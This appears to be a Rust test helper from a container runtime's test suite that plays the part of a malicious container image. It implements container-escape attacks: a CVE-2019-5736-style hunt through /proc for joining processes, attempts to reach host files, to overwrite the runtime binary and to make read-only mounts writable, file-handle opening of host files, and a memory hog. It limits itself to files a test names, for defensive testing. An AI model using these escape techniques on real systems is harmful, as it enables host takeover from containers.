//! What a malicious image would run: the attacks of the test-suite that no
//! shell is quick enough for. It touches nothing but the files that a test
//! names to it.

#![deny(unsafe_code)]

use firn::internals::sys::mount::{ATTR_RDONLY, MountAttr, setattr};
use rustix::fd::{AsFd, AsRawFd, OwnedFd};
use rustix::fs::{CWD, Mode, OFlags};
use std::collections::BTreeSet;
use std::path::Path;

/// From any directory of the host to its root.
const UP: &str = "../../../../../../../../../..";

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.iter().map(String::as_str).collect::<Vec<_>>()[..] {
        ["euid"] => println!("{}", rustix::process::geteuid().as_raw()),
        ["hunt", report, canary, ref inodes @ ..] => hunt(report, canary, inodes, 20_000),
        // Where there are many others.
        ["glance", report, canary, ref inodes @ ..] => hunt(report, canary, inodes, 20),
        ["handle", file] => println!("{}", handle(Path::new(file)).expect("name_to_handle_at")),
        ["open-handle", handle, ref mounts @ ..] => mounts.iter().for_each(|mount| open_handle(handle, mount)),
        ["hog", mebibytes] => hog(mebibytes.parse().expect("a number")),
        _ => panic!("what is {args:?}?"),
    }
}

/// struct file_handle with as many bytes as a handle has at most (MAX_HANDLE_SZ, open_by_handle_at(2)).
#[repr(C)]
struct FileHandle {
    bytes: u32,
    kind: i32,
    handle: [u8; 128],
}

/// The handle of a file of the host, as text for `open_handle`.
#[expect(unsafe_code, reason = "name_to_handle_at(2)")]
fn handle(file: &Path) -> std::io::Result<String> {
    let path = std::ffi::CString::new(file.as_os_str().as_encoded_bytes())?;
    let (mut found, mut mount) = (FileHandle { bytes: 128, kind: 0, handle: [0; 128] }, 0);
    // SAFETY: `found` has room for the bytes that it says, and all outlive the call.
    let result = unsafe {
        libc::syscall(libc::SYS_name_to_handle_at, libc::AT_FDCWD, path.as_ptr(), &raw mut found, &raw mut mount, 0)
    };
    match result {
        0 => {
            let bytes = found.handle.iter().take(found.bytes as usize).map(|byte| format!("{byte:02x}"));
            Ok(format!("{}-{}", found.kind, bytes.collect::<String>()))
        }
        _ => Err(std::io::Error::last_os_error()),
    }
}

/// Opens the file of the handle by a mount of its file system, and prints what it holds, or why not.
#[expect(unsafe_code, reason = "open_by_handle_at(2)")]
fn open_handle(handle: &str, mount: &str) {
    use rustix::fd::FromRawFd;
    let (kind, text) = handle.split_once('-').expect("a handle");
    let mut wanted =
        FileHandle { bytes: text.len() as u32 / 2, kind: kind.parse().expect("its type"), handle: [0; 128] };
    for (at, byte) in wanted.handle.iter_mut().take(text.len() / 2).enumerate() {
        *byte = u8::from_str_radix(&text[2 * at..2 * at + 2], 16).expect("its bytes");
    }
    let Ok(mount_fd) = rustix::fs::openat(CWD, mount, OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty()) else {
        println!("{mount}: missing");
        return;
    };
    // SAFETY: `wanted` outlives the call.
    let fd =
        unsafe { libc::syscall(libc::SYS_open_by_handle_at, mount_fd.as_raw_fd(), &raw const wanted, libc::O_RDONLY) };
    if fd < 0 {
        println!("{mount}: {}", std::io::Error::last_os_error());
        return;
    }
    // SAFETY: the call has returned a new descriptor.
    let file = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(fd as i32) });
    println!("{mount}: {}", std::io::read_to_string(file).expect("read").trim_end());
}

/// Uses so much memory, in steps.
fn hog(mebibytes: usize) {
    let mut kept = Vec::new();
    for _ in 0..mebibytes {
        kept.push(vec![1u8; 1 << 20]);
    }
    println!("{} MiB", kept.len());
}

/// What was seen of the processes that joined this container.
#[derive(Default)]
struct Found {
    seen: u32,
    opened: u32,
    facts: BTreeSet<String>,
}

/// CVE-2019-5736 and its kin: waits for each next process that joins this pid
/// namespace, and goes through the doors that /proc has to it: its program, its
/// root, its directory, its descriptors. Ends when REPORT.stop appears.
fn hunt(report: &str, canary: &str, inodes: &[&str], patience: u32) {
    let stop = format!("{report}.stop");
    let mut found = Found::default();
    let mut pid = newest() + 1;
    let mut programs = Vec::new();
    std::fs::write(report, "ready\n").expect("write the report");
    let mut idle = 0u32;
    loop {
        if !Path::new(&format!("/proc/{pid}")).exists() {
            idle += 1;
            if idle.is_multiple_of(1024) {
                if Path::new(&stop).exists() {
                    break;
                }
                // One may have come and gone unseen.
                pid = pid.max(newest() + 1);
            }
            continue;
        }
        idle = 0;
        found.seen += 1;
        follow(pid, (canary, inodes, patience), &mut programs, &mut found);
        pid += 1;
    }
    // They have ended, and nothing says any longer that their file is busy.
    for program in &programs {
        overwrite(program, &mut found);
    }
    let facts: Vec<String> = found.facts.into_iter().collect();
    let text = format!("seen {}\nopened {}\n{}\nend\n", found.seen, found.opened, facts.join("\n"));
    std::fs::write(report, text).expect("write the report");
}

fn newest() -> u32 {
    let all = std::fs::read_dir("/proc").expect("list /proc").flatten();
    all.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).max().unwrap_or(0)
}

/// What one look at a process gave.
enum Look {
    Gone,
    /// It runs a program that the test did not name.
    Other,
    Named,
}

/// Stays with a process until it has become a program of the container's own,
/// or is gone.
fn follow(pid: u32, (canary, inodes, patience): (&str, &[&str], u32), programs: &mut Vec<OwnedFd>, found: &mut Found) {
    let mut named = false;
    for _ in 0..patience {
        match look(pid, canary, inodes, programs, found) {
            Look::Named => named = true,
            Look::Other if !named => {}
            Look::Other | Look::Gone => return,
        }
    }
}

fn look(pid: u32, canary: &str, inodes: &[&str], programs: &mut Vec<OwnedFd>, found: &mut Found) -> Look {
    for door in ["root", "cwd"] {
        if Path::new(&format!("/proc/{pid}/{door}/{UP}/{canary}")).exists() {
            found.facts.insert(format!("host reached by {door}"));
        }
    }
    for entry in std::fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
        if entry.path().join(UP).join(canary.trim_start_matches('/')).exists() {
            found.facts.insert("host reached by a descriptor".into());
        }
    }
    let Ok(program) = rustix::fs::open(format!("/proc/{pid}/exe"), OFlags::PATH | OFlags::CLOEXEC, Mode::empty())
    else {
        return if Path::new(&format!("/proc/{pid}")).exists() { Look::Other } else { Look::Gone };
    };
    let Ok(stat) = rustix::fs::fstat(&program) else { return Look::Other };
    // Never a file that the test did not name.
    if !inodes.contains(&&*format!("{}:{}", stat.st_dev, stat.st_ino)) {
        return Look::Other;
    }
    if rights(&pid.to_string()) & !rights("self") != 0 {
        found.facts.insert("it has more rights than the container".into());
    }
    if is_without_filter(pid) {
        found.facts.insert("it has no filter".into());
    }
    found.opened += 1;
    if programs.len() < 100 {
        overwrite(&program, found);
        programs.push(program);
    }
    Look::Named
}

/// The permitted capabilities of a process, none if it is gone.
fn rights(pid: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("CapPrm:"));
    line.and_then(|set| u64::from_str_radix(set.trim(), 16).ok()).unwrap_or(0)
}

fn is_without_filter(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/status")).is_ok_and(|status| status.contains("Seccomp:\t0"))
}

fn overwrite(program: &OwnedFd, found: &mut Found) {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let open = || rustix::fs::open(&path, OFlags::WRONLY | OFlags::APPEND | OFlags::CLOEXEC, Mode::empty());
    let mut result = open();
    if result.is_err() {
        // A read-only mount is only as good as nobody can turn it around.
        let writable = MountAttr { clear: ATTR_RDONLY, ..MountAttr::default() };
        if setattr(program.as_fd(), false, &writable).is_ok() {
            found.facts.insert("its mount was made writable".into());
        }
        if let Ok(copy) = rustix::mount::open_tree(
            CWD,
            &*path,
            rustix::mount::OpenTreeFlags::OPEN_TREE_CLONE | rustix::mount::OpenTreeFlags::OPEN_TREE_CLOEXEC,
        ) && setattr(copy.as_fd(), false, &writable).is_ok()
        {
            found.facts.insert("a writable copy of its mount was made".into());
        }
        result = open();
    }
    match result {
        Ok(file) => {
            let written = rustix::io::write(&file, b"owned").is_ok();
            found.facts.insert(format!("program opened for writing, written: {written}"));
        }
        Err(errno) => {
            found.facts.insert(format!("program not writable: {errno}"));
        }
    }
}
